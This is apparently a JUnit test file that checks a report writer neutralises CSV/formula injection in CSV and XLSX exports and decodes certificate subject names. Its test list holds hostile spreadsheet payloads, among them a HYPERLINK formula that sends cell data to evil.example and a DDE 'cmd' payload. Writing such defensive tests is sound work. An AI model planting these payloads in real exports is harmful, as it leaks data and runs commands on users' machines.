package vn.hatang.platform.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import javax.security.auth.x500.X500Principal;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import vn.hatang.pki.certs.SubjectNames;
import vn.hatang.platform.i18n.Messages;
import vn.hatang.testing.Sheets;

/**
 * Verifies the one writer of reports and exports: a cell a spreadsheet would run as a formula stays text (OWASP CSV
 * injection), numbers stay numbers and dates dates, and readable subject names.
 */
class ReportWriterTest {
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tTab", "\rReturn");

    private static Report report() {
        ReportTable t = new ReportTable(Text.same("Danh sách"), List.of(Text.same("STT"), Text.same("Họ và tên"),
                Text.same("Ngày"), Text.same("Số lượng")));
        int i = 0;
        for (String h : HOSTILE) {
            t.add(++i, h, LocalDate.of(2026, 3, 10), -5);
        }
        t.add(++i, "Nguyễn Thị Ngọc Ánh - Văn thư", null, null);
        return new Report("test", null, "2026-03-10T00:00:00Z", List.of(Text.same("=1+1 ghi chú")), List.of(t));
    }

    @Test
    void testCsvNeutralisesFormulaCells() {
        String csv = new String(ReportWriter.render(report(), ReportWriter.CSV, Messages.VI), StandardCharsets.UTF_8);
        for (String h : HOSTILE) {
            assertTrue(csv.contains("'" + h.replace("\"", "\"\"")), "«" + h + "» neutralised in\n" + csv);
        }
        assertTrue(csv.contains(",-5\r\n") || csv.contains(",-5\n"), "a negative number stays a number: " + csv);
        assertTrue(csv.contains("Nguyễn Thị Ngọc Ánh - Văn thư"), "a dash inside a name is left alone");
        assertTrue(csv.contains("'=1+1 ghi chú"), "notes too");
    }

    @Test
    void testXlsxNeutralisesFormulaCellsAndKeepsTypes() {
        byte[] xlsx = ReportWriter.render(report(), ReportWriter.XLSX, Messages.VI);
        List<Row> rows = Sheets.table(xlsx, 0, "STT");
        for (int i = 0; i < HOSTILE.size(); i++) {
            Row r = rows.get(i + 1);
            assertEquals("'" + HOSTILE.get(i), r.getCellText(1));
            assertEquals(i + 1, r.getCellAsNumber(0).orElseThrow().intValue());
            assertEquals(LocalDate.of(2026, 3, 10), r.getCellAsDate(2).orElseThrow().toLocalDate());
            assertEquals(-5, r.getCellAsNumber(3).orElseThrow().intValue());
        }
        String sheet = Sheets.part(xlsx, "xl/worksheets/sheet1.xml");
        assertTrue(!sheet.contains("<f>"), "no cell is a formula");
    }

    @Test
    void testSubjectNamesDecodeEmailAttributes() {
        String stored = new X500Principal("CN=Nguyễn Văn An, EMAILADDRESS=an.nv@hoason.dcs.vn, O=Tỉnh ủy Hòa Sơn, C=VN")
                .getName(X500Principal.RFC2253);
        assertTrue(stored.contains("1.2.840.113549.1.9.1=#"), "the register's form hex-encodes it: " + stored);
        assertEquals("CN=Nguyễn Văn An, E=an.nv@hoason.dcs.vn, O=Tỉnh ủy Hòa Sơn, C=VN", SubjectNames.readable(stored));
        assertEquals("not a DN", SubjectNames.readable("not a DN"));
    }
}
